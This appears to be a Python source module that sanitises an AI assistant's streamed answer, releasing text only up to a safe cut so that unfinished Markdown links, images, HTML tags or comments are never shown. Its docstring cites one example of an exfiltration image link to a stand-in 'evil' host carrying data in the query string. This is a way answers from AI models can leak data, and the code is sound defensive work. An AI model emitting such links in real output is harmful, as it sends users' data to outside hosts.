"""Sanitising a streamed answer: deltas the task pane may show at once, never an exfiltration link in the making.

Text is released only up to a safe cut: before an unfinished Markdown link or image, HTML tag or comment, so a
half-streamed `![x](https://evil/?d=...` is never shown. Each release is the sanitised prefix minus what was already
sent. If a later chunk changes how an earlier part sanitises (a preamble recognised once its line ends), releases
stop and the final `done` output, sanitised as a whole, is the answer to show.

Cleaning the whole prefix again for every chunk costs O(n^2) over an answer (measured: 5.6 s of CPU for a 21,600
character answer in 4-character chunks). So the text is *settled* at line ends where nothing is left open (no HTML
comment, dangerous block, tag or autolink, no `[` or `(` without its closer, no reference definition on the last
line): no pattern of the sanitiser can match across such a point, so the settled part's cleaned form is final and
only the text after it is cleaned again. Rewrite-style skills judge the first and last lines of the whole answer
(preamble, closing offer, fences), so their answers are cleaned whole each time, as before.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

from backend.skills import sanitize, spotlight

_COMPLETE_BRACKET = re.compile(r"\[[^\]\n]*\](?:\([^)\n]*\)|\[[^\]\n]*\]|[^(\[])")
_OPEN_DANGEROUS = re.compile(r"<(?:" + "|".join(sanitize.DANGEROUS_ELEMENTS) + r")\b", re.I)
_DANGEROUS_OPENER = re.compile(r"<(" + "|".join(sanitize.DANGEROUS_ELEMENTS) + r")\b", re.I)
_POSSIBLE_DEFINITION = re.compile(r"\s{0,3}\[[^\]\n]*(?:\](?::[^\n]*)?)?")  # "[r", "[r]", "[r]: ..." at a line start
_OPEN_TAG = re.compile(r"</?(?:" + "|".join(sanitize.HTML_ELEMENTS) + r")\b[^<>]*(?:<|\Z)", re.I)
MAX_HELD_TAG = 500  # a '<' this far back without '>' is a comparison, not a tag in the making
PREAMBLE_WINDOW = 200  # rewrite-style answers: hold the first line (up to this many characters) to judge it


def _open_block_start(text: str) -> int:
    """Where an HTML comment or a dangerous element (script, style...) opens without its end yet, else -1: the
    sanitiser removes them with their content once they close, so none of it may be shown before."""
    start = text.find("<!--", text.rfind("-->") + 1)
    position = 0
    while (opener := _DANGEROUS_OPENER.search(text, position)) is not None:
        closer = re.compile(rf"</{opener.group(1)}\s*>", re.I).search(text, opener.end())
        if closer is None:
            return opener.start() if start == -1 else min(start, opener.start())
        position = closer.end()
    return start


def safe_cut(text: str) -> int:
    """The length of the prefix of text that cannot change by what comes next."""
    cut = len(text)
    block = _open_block_start(text)
    if block != -1:
        cut = block
    line_start = text.rfind("\n") + 1
    if _POSSIBLE_DEFINITION.fullmatch(text, line_start):
        cut = min(cut, line_start)  # may become a reference definition, which goes whole if its host is not allowed
    bracket = text.rfind("[")
    if bracket != -1:
        rest = text[bracket:]
        if "\n" not in rest and not _COMPLETE_BRACKET.match(rest):
            cut = bracket - 1 if bracket > 0 and text[bracket - 1] == "!" else bracket
    target = text.rfind("](")  # a link whose words hold brackets ("[a [b] c](url"): its target is not complete yet
    if target != -1 and "\n" not in text[target:] and ")" not in text[target:]:
        cut = min(cut, target)
    angle = text.rfind("<")
    if angle != -1 and ">" not in text[angle:] and len(text) - angle < MAX_HELD_TAG:
        while angle > 0 and text[angle - 1] == "<":  # "<<" may become an echoed "<<<DATA ...>>>" delimiter
            angle -= 1
        cut = min(cut, angle)
    delimiter = text.rfind("<<<")
    if delimiter != -1 and "\n" not in text[delimiter:] and ">>>" not in text[delimiter:]:
        cut = min(cut, delimiter)  # "<<<DATA x n>>" is not closed until its third ">"
    if text.endswith(("!", "]")):
        cut = min(cut, len(text) - 1)  # may become "![" or "](" with the next chunk
    return cut


def is_closed(segment: str) -> bool:
    """Whether no sanitiser pattern that starts in this text (which ends a line) can extend past its end."""
    if segment.rfind("<!--") > segment.rfind("-->"):
        return False
    html_free = sanitize.strip_comments_and_blocks(segment)
    # An autolink holds no whitespace, so none can run past the segment's final line break.
    if _OPEN_DANGEROUS.search(html_free) or _OPEN_TAG.search(html_free):
        return False
    text = sanitize.strip_tags(html_free)  # = sanitize.strip_html(segment)
    square = round_ = 0
    for char in text:
        if char == "[":
            square += 1
        elif char == "]":
            square = max(0, square - 1)
        elif char == "(":
            round_ += 1
        elif char == ")":
            round_ = max(0, round_ - 1)
    if square or round_:
        return False
    # The last line as cleaning leaves it (tags, delimiters and maybe its images gone): blank, a reference
    # definition after it may begin on it; a definition itself also takes the lines after it.
    last_line = text[:-1].rpartition("\n")[2]
    without_images = sanitize.without_images(last_line)
    if not without_images.strip():
        return False
    return not (sanitize.REF_DEFINITION.match(last_line) or sanitize.REF_DEFINITION.match(without_images))


def _without_possible_closing(text: str) -> str:
    """Hold back a last line that is, or may become, a closing offer ("Let me know if..."), and final spaces."""
    head, newline, last = text.rpartition("\n")
    words = last.strip().lower()
    if newline and any(p.startswith(words) or words.startswith(p) for p in sanitize.CLOSING_PHRASES):
        text = head
    return text.rstrip()


def _may_be_wrapped(rewrite: str) -> bool:
    """Whether a rewrite's text so far may yet turn out wrapped whole in a code fence or in quotes, which the final
    output drops: hold it until that is known (the end of the answer, or a third quote)."""
    return rewrite.startswith("```") or (rewrite.startswith('"') and rewrite.count('"') <= 2)


class StreamSanitizer:
    """Feed model chunks and send what `feed` returns as deltas, then `flush()` as the last one; `finish()` is the
    `done` output (equal to the deltas joined, unless a late chunk changed an earlier part)."""

    def __init__(self, allowed_hosts: Iterable[str] = (), rewrite_style: bool = False, unmark: bool = False):
        self.allowed_hosts = tuple(allowed_hosts)
        self.rewrite_style = rewrite_style
        self.unmark = unmark
        self.raw = ""
        self.sent = ""
        self.diverged = False
        self.settled = 0  # raw[:settled] ends at a closed line end (never for rewrite-style answers)
        self.settled_clean = ""  # its cleaned form, final

    def _clean(self, text: str, at_start: bool = True) -> str:
        """The sanitised form of a prefix (or of the text after the settled part), without the final whitespace
        trim (more text may follow); leading whitespace goes only at the start of the answer."""
        if self.unmark:
            text = spotlight.unmark(text)
        text = sanitize.strip_untrusted_links(sanitize.strip_html(text), self.allowed_hosts)
        if self.rewrite_style:
            text = sanitize.strip_preamble(text)
        return text.lstrip() if at_start else text

    def _settle(self, upto: int) -> None:
        """Move the settled point to the last line end before `upto`, if nothing is open there."""
        line_end = self.raw.rfind("\n", self.settled, upto) + 1
        if line_end <= self.settled or not is_closed(self.raw[self.settled : line_end]):
            return
        self.settled_clean += self._clean(self.raw[self.settled : line_end], at_start=not self.settled_clean)
        self.settled = line_end

    def feed(self, chunk: str) -> str:
        """Add a chunk; the newly releasable text (may be empty)."""
        self.raw += chunk
        if self.diverged:
            return ""
        if self.rewrite_style and "\n" not in self.raw and len(self.raw) < PREAMBLE_WINDOW:
            return ""
        if self.rewrite_style:
            candidate = _without_possible_closing(self._clean(self.raw[: safe_cut(self.raw)]))
        else:
            cut = self.settled + safe_cut(self.raw[self.settled :])
            self._settle(cut)
            tail = self._clean(self.raw[self.settled : cut], at_start=not self.settled_clean)
            candidate = (self.settled_clean + tail).rstrip()  # the output ends trimmed: never send what goes
        if self.rewrite_style and _may_be_wrapped(candidate):
            return ""
        if not candidate.startswith(self.sent):
            self.diverged = True
            return ""
        delta, self.sent = candidate[len(self.sent) :], candidate
        return delta

    def flush(self) -> str:
        """At the end of the stream: the last delta (what was held back), unless the output diverged."""
        final = self.finish()
        if self.diverged or not final.startswith(self.sent):
            return ""
        delta, self.sent = final[len(self.sent) :], final
        return delta

    def finish(self) -> str:
        """The whole answer sanitised: the `done` output."""
        text = spotlight.unmark(self.raw) if self.unmark else self.raw
        return sanitize.sanitize_output(text, self.allowed_hosts, self.rewrite_style)
